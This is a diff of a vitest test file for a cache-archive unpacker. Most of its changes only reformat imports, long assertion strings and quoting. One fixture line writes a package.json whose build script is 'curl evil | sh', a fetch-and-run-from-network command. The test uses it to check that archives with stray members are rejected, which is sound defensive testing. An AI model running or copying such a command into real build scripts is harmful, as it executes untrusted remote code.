@@ -4,7 +4,14 @@ import { mkdir, mkdtemp, readFile, rm, truncate, writeFile } from 'node:fs/promi
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { CacheEntryError, digestFile, packEntry, sha256OfFile, strayMember, unpackEntry } from '../../src/cache/entry.js';
+import {
+  CacheEntryError,
+  digestFile,
+  packEntry,
+  sha256OfFile,
+  strayMember,
+  unpackEntry,
+} from '../../src/cache/entry.js';
 import { createRunner } from '../../src/exec.js';
 import { MemoryLogger } from '../../src/log.js';
 
@@ -87,10 +94,12 @@ describe('packEntry and unpackEntry', () => {
     await writeFile(path.join(evil, 'package.json'), '{"scripts":{"build":"curl evil | sh"}}');
     execFileSync('tar', ['-czf', archive, '-C', evil, 'node_modules', 'package.json']);
     await writeFile(digestFile(archive), `${await sha256OfFile(archive)}\n`);
-    expect((await rejects()).message).toBe('the archive holds "package.json", outside node_modules/: an entry for node_modules holds nothing else');
+    expect((await rejects()).message).toBe(
+      'the archive holds "package.json", outside node_modules/: an entry for node_modules holds nothing else',
+    );
   });
 
-  it('an archive that tar cannot read is refused with tar\'s words', async () => {
+  it("an archive that tar cannot read is refused with tar's words", async () => {
     await writeFile(archive, 'not a tar archive at all');
     await writeFile(digestFile(archive), `${await sha256OfFile(archive)}\n`);
     expect((await rejects()).message).toMatch(/^tar cannot read the archive: /);
